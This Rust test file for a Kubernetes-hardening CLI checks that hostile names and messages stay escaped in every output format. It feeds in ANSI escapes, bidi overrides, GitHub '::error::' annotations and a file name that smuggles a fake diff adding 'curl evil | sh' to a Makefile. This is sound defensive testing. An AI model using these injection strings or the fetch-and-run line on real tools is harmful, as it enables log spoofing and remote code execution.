//! Nothing gets out of its place: frames, the report of a fix, diffs, lines of standard error.

use std::process::Stdio;

use serde_json::json;

use super::formats::in_its_place;
use crate::support::{PRIVILEGED, folder, harden, harden_command};
use guests::{VALID, answering};

const EVIL: &str = "n\u{1b}[31m\n::error::pwn\u{9b}\u{202e}##[group]";

fn pod_called(name: &str) -> String {
    let name = serde_json::to_string(name).unwrap().replace('\u{9b}', "\\u009b");
    PRIVILEGED.replace("name: web", &format!("name: {name}\n  namespace: {name}"))
}

#[test]
fn s9_text_of_a_manifest_stays_in_its_frame() {
    let folder = folder(&[(&format!("{EVIL}.yaml"), &pod_called(EVIL))]);
    let run = harden(folder.path(), &["check", "."]);
    assert_eq!(run.code, 1, "{}", run.err);
    assert!(run.out.contains(r": Pod n\u{1b}[31m\n::error::pwn\u{9b}\u{202e}\u{23}#[group]/n"), "{}", run.out);
    in_its_place("text", &run.out, "s9 text");
    for command in ["level", "matrix"] {
        in_its_place(command, &harden(folder.path(), &[command, "."]).out, command);
    }
}

#[test]
fn s9_frames_hold_what_a_policy_says() {
    let violation = |message: &str| {
        json!({"rule": EVIL, "path": "", "message": message,
        "fix": [{"op": "set", "path": EVIL, "value": EVIL}]})
    };
    let list = json!([violation("first\n::error::x"), violation("second\u{1b}[2J\n::error::y")]).to_string();
    let answer = json!({"accepted": false, "audit_annotations": {"violations": list}}).to_string();
    let folder = folder(&[("pod.yaml", PRIVILEGED)]);
    std::fs::write(folder.path().join("policy.wasm"), answering(&answer, VALID)).unwrap();
    for format in ["text", "concise", "github", "json", "sarif", "gitlab", "markdown", "junit", "html"] {
        let run = harden(
            folder.path(),
            &["check", "--policy", "policy.wasm", "--statistics", "--format", format, "pod.yaml"],
        );
        assert_eq!(run.code, 1, "{}", run.err);
        assert!(run.out.contains("second"), "{format}: {}", run.out);
        if format == "text" {
            let words = ["error[n", "= error: [n", "= help: "];
            assert!(words.iter().all(|word| run.out.contains(word)), "{}", run.out);
        } else {
            in_its_place(format, &run.out, "s9 frames");
        }
        assert!(!run.out.contains(['\u{1b}', '\u{202e}']), "{format}: {}", run.out);
    }
}

#[test]
fn s9_fix_reports_one_line_each() {
    let folder = folder(&[(&format!("{EVIL}.yaml"), &pod_called(EVIL)), ("::error::x.yaml", "a: b: c\n")]);
    let run = harden(folder.path(), &["fix", ".", "::error::x.yaml"]);
    assert_eq!(run.code, 2, "{}", run.err);
    assert!(run.out.contains(r"./n\u{1b}[31m\n::error::pwn"), "{}", run.out);
    in_its_place("fix", &run.out, "s9 fix");
    in_its_place("fix", &run.err, "s9 fix");
}

#[test]
fn s9_errors_are_one_line_each() {
    let evil = serde_json::to_string(EVIL).unwrap().replace('\u{9b}', "\\u009b");
    for config in [
        format!("{evil}: 1\n"),
        format!("rules: {{{evil}: true}}\n"),
        format!("baseline: {evil}\n"),
        format!("policies: [{{module: {evil}}}]\n"),
        format!("dockerfiles: [{{image: x, path: {evil}}}]\n"),
        format!("outputs: [{{format: json, path: {evil}}}, {{format: text, path: {evil}}}]\n"),
        format!("profile: {evil}\n"),
        format!("exemptions: [{{images: [{evil}], reason: x, until: {evil}}}]\n"),
    ] {
        let folder = folder(&[("harden.yaml", &config), ("pod.yaml", PRIVILEGED)]);
        for command in ["check", "fix", "level"] {
            let run = harden(folder.path(), &[command, "pod.yaml"]);
            in_its_place("errors", &run.err, &config);
            assert!(run.err.lines().all(|line| line.starts_with("error: ")), "{command} {config}: {}", run.err);
        }
        let run = harden(folder.path(), &["check", "pod.yaml"]);
        assert_eq!(run.code, 2, "{config}: {}", run.err);
    }
    let nowhere = folder(&[]);
    for args in [
        &["check", "--config", EVIL, "."][..],
        &["check", "--baseline", EVIL, "."],
        &["check", "--policy", EVIL, "."],
        &["run", EVIL, "-r", EVIL],
        &["explain", EVIL],
        &["man", EVIL],
        &["test", EVIL],
        &["pull", EVIL],
        &["push", EVIL, EVIL],
    ] {
        let run = harden(nowhere.path(), args);
        assert_ne!(run.code, 0, "{args:?}");
        in_its_place("errors", &run.err, &args.join(" "));
        assert_eq!(run.err.lines().count(), 1, "{args:?}: {}", run.err);
    }
}

#[test]
fn s16_diff_headers_are_quoted_as_git_does() {
    let evil = "x\n--- a/Makefile\n+++ b/Makefile\n@@ -0,0 +1 @@\n+all:; curl evil | sh\n.yaml";
    let folder = folder(&[]);
    // A slash would be a folder.
    let name = evil.replace('/', "\u{2044}");
    std::fs::write(folder.path().join(&name), PRIVILEGED).unwrap();
    let run = harden(folder.path(), &["fix", "--diff", "."]);
    let headers: Vec<&str> =
        run.out.lines().filter(|line| line.starts_with("--- ") || line.starts_with("+++ ")).collect();
    assert_eq!(headers.len(), 2, "{}", run.out);
    assert!(headers[0].starts_with(r#"--- "a/x\n--- a"#) && headers[1].starts_with(r#"+++ "b/x\n"#), "{headers:?}");
    // What is quoted is what `git apply` finds.
    let mut git = std::process::Command::new("git");
    git.args(["apply", "-"]).current_dir(folder.path()).stdin(Stdio::piped()).env("GIT_CEILING_DIRECTORIES", "/");
    let mut git = git.spawn().unwrap();
    std::io::Write::write_all(&mut git.stdin.take().unwrap(), run.out.as_bytes()).unwrap();
    assert!(git.wait().unwrap().success());
    let patched = std::fs::read_to_string(folder.path().join(&name)).unwrap();
    harden(folder.path(), &["fix", "--no-config", "."]);
    assert_ne!(patched, PRIVILEGED);
    assert_eq!(patched, std::fs::read_to_string(folder.path().join(&name)).unwrap());
}

#[test]
fn cli_10_a_closed_pipe_is_not_something_unjudged() {
    let pods = vec![PRIVILEGED; 2_000].join("---\n");
    let folder = folder(&[("pods.yaml", &pods)]);
    let mut child = harden_command()
        .current_dir(folder.path())
        .args(["check", "pods.yaml"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    assert_eq!(child.wait().unwrap().code(), Some(141));
}
